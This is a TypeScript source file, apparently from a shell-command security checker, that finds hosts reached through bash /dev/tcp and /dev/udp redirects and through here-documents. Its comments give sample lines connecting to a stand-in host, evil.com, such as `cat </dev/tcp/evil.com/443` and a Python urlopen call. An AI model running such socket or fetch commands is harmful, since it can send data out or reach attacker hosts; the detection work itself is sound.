// Where a shell line may name a host outside the words of its commands, for the host rules
// (hosts.ts): bash's own network redirects (`cat </dev/tcp/evil.com/443`, `exec 3<>/dev/udp/$H/53`,
// on a command, a `{ …; }` group, a loop, a function, `$(< …)`) and the text a here-document or
// here-string feeds a program (`python3 - <<EOF` with `urlopen("http://evil.com")` in it). The
// shell analysis lists commands, not these, so the line is parsed again here. Every script the
// analysis reads (`sh -c`, `eval`, `watch`, `su -c` strings, a here-document fed to a shell
// through a pipe) is read in turn, and so is a here-document or here-string fed to a shell.
// bash opens a path as a socket only when, expanded, it is spelled `/dev/tcp/HOST/PORT` or
// `/dev/udp/HOST/PORT` (`/dev//tcp/…`, `/dev/./tcp/…`, `/dev/TCP/…` are files that do not exist).
import { parseShell, type Node } from "../shell/parser";
import { analyseShell, basename } from "../shell/analyse";
import { SHELLS } from "../shell/wrappers";
import { expandHereDocument, expandWord, GAP, type Expansion } from "./hosts-words";

/** A redirect, here-document or here-string that may name a host. */
export interface Feed {
  /** Its statement and the redirect as written, shortened, for the card. */
  readonly shown: string;
  /** The statement it belongs to: it concerns the commands whose source this text holds. */
  readonly scope: string;
  /** Text read for host names as a command's words are (`evil.com`, `http://evil.com/`). */
  readonly texts: readonly string[];
  /** The HOST of each `/dev/tcp/HOST/PORT` it opens, whole (`::ffff:7f00:1` holds colons). */
  readonly sockets: readonly string[];
  /** Why it may reach any host, when part of it is only known at run time. */
  readonly runtime?: string;
}

export interface LineFeeds {
  /** How many commands the analysis lists for the line: a rule on one program is handed fewer. */
  readonly commands: number;
  readonly feeds: readonly Feed[];
}

// As the analysis: past this many nodes a line is opaque there, and asked about for that.
const MAX_NODES = 2_000;
const MAX_DEPTH = 4;
const SOCKETS = ["/dev/tcp/", "/dev/udp/"];
const RUNTIME_TEXT = "its text is only known at run time and may name any host";

const cache = new Map<string, LineFeeds>();

/** The feeds of `line` and of the scripts it hands a shell, memoized: each host rule asks. */
export function lineFeeds(line: string): LineFeeds {
  let found = cache.get(line);
  if (!found) {
    const { commands, scripts } = analyseShell(line);
    const feeds: Feed[] = [];
    read(line, 0, undefined, feeds);
    // The analysis lists the scripts it read, nested ones too: each is read once.
    for (const s of new Set(scripts)) read(s, 1, undefined, feeds);
    found = { commands: commands.length, feeds };
    if (cache.size >= 16) cache.delete(cache.keys().next().value as string);
    cache.set(line, found);
  }
  return found;
}

/** The hosts `line` opens a socket to for certain (`cat </dev/tcp/evil.com/80`), its scripts'
 *  too, as they are written: a call reaches them as it reaches a URL's host. */
export function socketHosts(line: string): string[] {
  return [...new Set(lineFeeds(line).feeds.flatMap((f) => f.sockets))];
}

// `outer`: the statement a script fed on stdin belongs to, for its feeds' scope.
function read(text: string, depth: number, outer: string | undefined, feeds: Feed[]): void {
  if (depth > MAX_DEPTH) return;
  const tree = parseShell(text);
  if (!tree) return;
  try {
    if (tree.rootNode.descendantCount > MAX_NODES) return;
    const stack: Node[] = [tree.rootNode];
    for (let node = stack.pop(); node; node = stack.pop()) {
      if (node.type === "file_redirect") redirect(node, outer, feeds);
      else if (node.type === "herestring_redirect" || node.type === "heredoc_redirect") here(node, depth, outer, feeds);
      stack.push(...node.children);
    }
  } finally {
    tree.delete();
  }
}

function redirect(node: Node, outer: string | undefined, feeds: Feed[]): void {
  // `<&word` only duplicates a descriptor; `>&word` opens a file when word is not a number.
  if (node.children.some((c) => c.type === "<&")) return;
  for (const dest of destinations(node)) {
    const e = expandWord(dest);
    const sockets: string[] = [];
    let runtime: string | undefined;
    for (const shape of e.shapes) {
      const gap = e.unknown ? shape.indexOf(GAP) : -1;
      const known = gap < 0 ? shape : shape.slice(0, gap);
      const prefix = SOCKETS.find((s) => known.startsWith(s));
      if (!prefix) {
        // `<"$F"`, `>/dev/$T/…`: run time may still spell a socket.
        if (gap >= 0 && SOCKETS.some((s) => s.startsWith(known)))
          runtime ??= "where it points is only known at run time and may be a connection to any host";
        continue;
      }
      const rest = known.slice(prefix.length);
      const end = rest.indexOf("/");
      if (end >= 0) sockets.push(rest.slice(0, end));
      else if (gap >= 0) runtime ??= "it connects to a host only known at run time";
    }
    if (sockets.length === 0 && !runtime) continue;
    // Fragments hold a `${H:-evil.com}` default beside the known text.
    feeds.push({
      shown: shown(node),
      scope: scope(node, outer),
      texts: e.fragments,
      sockets,
      ...(runtime ? { runtime } : {}),
    });
  }
}

// The words a redirect opens. The grammar may split one word in two (`/dev/tcp/` and
// `` `cat h`/80 ``): destinations that touch are one word again.
function destinations(node: Node): string[] {
  const words: string[] = [];
  let end = -1;
  for (const dest of node.childrenForFieldName("destination")) {
    // `< <(…)` reads a pipe; the commands inside are the analysis's.
    if (dest.type === "process_substitution") {
      end = -1;
      continue;
    }
    if (dest.startIndex === end) words[words.length - 1] += dest.text;
    else words.push(dest.text);
    end = dest.endIndex;
  }
  return words;
}

function here(node: Node, depth: number, outer: string | undefined, feeds: Feed[]): void {
  let e: Expansion;
  let script: string | undefined;
  if (node.type === "herestring_redirect") {
    const word = node.namedChildren.at(-1);
    if (!word || word.type === "file_descriptor") return;
    // bash expands a here-string as an assignment's value: no braces, no globs, one word.
    e = expandWord(word.text, true);
    if (!e.unknown) script = e.values.join("\n");
  } else {
    const start = node.children.find((c) => c.type === "heredoc_start");
    if (!start) return;
    script = node.children
      .filter((c) => c.type === "heredoc_body")
      .map((c) => c.text)
      .join("");
    // A quoted delimiter (`'EOF'`, `"EOF"`, `\EOF`, `E"O"F`) leaves the body as it is written.
    e = /['"\\]/.test(start.text)
      ? { values: [script], unknown: false, fragments: [], shapes: [script], explained: false }
      : expandHereDocument(script);
  }
  feeds.push({
    shown: shown(node),
    scope: scope(node, outer),
    texts: [...e.values, ...e.fragments],
    sockets: [],
    ...(e.unknown ? { runtime: RUNTIME_TEXT } : {}),
  });
  // Fed to a shell (`bash <<EOF`, `sh -s <<<'…'`, `sudo bash <<EOF`), it is a script; what an
  // unquoted body expands is read as the script's own run-time words.
  const statement = statementOf(node);
  const shell =
    statement?.type === "command" &&
    statement.namedChildren.some(
      (c) => (c.type === "command_name" || c.type === "word") && SHELLS.has(basename(c.text)),
    );
  if (shell && script !== undefined) read(script, depth + 1, scope(node, outer), feeds);
}

// The command, group, loop or function body a redirect applies to; none for a bare one.
function statementOf(node: Node): Node | undefined {
  for (let p = node.parent; p; p = p.parent) {
    if (p.type === "command") return p;
    if (p.type === "redirected_statement" || p.type === "function_definition")
      return p.childForFieldName("body") ?? undefined;
    if (p.type === "command_substitution" || p.type === "program") return undefined;
  }
  return undefined;
}

function scope(node: Node, outer: string | undefined): string {
  return outer ?? statementOf(node)?.text ?? "";
}

function shown(node: Node): string {
  const statement = statementOf(node)?.text;
  const redirect = node.text.split("\n")[0];
  const text = statement && !statement.includes(redirect) ? `${statement} ${redirect}` : (statement ?? redirect);
  const line = text.split("\n")[0];
  return line.length > 60 || line.length < text.length ? `${line.slice(0, 60)}…` : line;
}
